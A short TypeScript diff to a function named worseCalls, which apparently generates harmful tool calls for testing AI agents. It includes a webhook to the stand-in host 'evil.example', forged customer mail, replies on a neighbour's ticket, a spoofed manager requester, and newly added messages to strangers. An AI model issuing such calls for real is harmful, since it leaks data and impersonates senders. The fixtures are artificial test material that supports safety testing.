@@ -61,6 +61,11 @@ export function worseCalls(text: string, finds: Finds, at: Surroundings): Call[]
       webhook_url: finds.urls[0] ?? 'https://evil.example',
     }),
     callOf('message.customer', account, { ...mail, to: [at.contact], ...forged }),
+    callOf('message.member', account, {
+      ...{ to: strangers, subject: line },
+      view: { summary: line, blocks: [{ kind: 'text', spans: [{ text: line }] }] },
+    }),
+    callOf('message.customer', account, { ...mail, to: [at.contact], format: 'letter', html: mail.body }),
     callOf('ticket.reply', account, { ticketId: at.neighboursTicketId, body: mail.body }),
     callOf('ticket.reply', account, { ticketId, body: mail.body, origin: 'member', requester: 'manager1' }),
     callOf('ticket.note', account, { ticketId: at.neighboursTicketId, body: mail.body }),
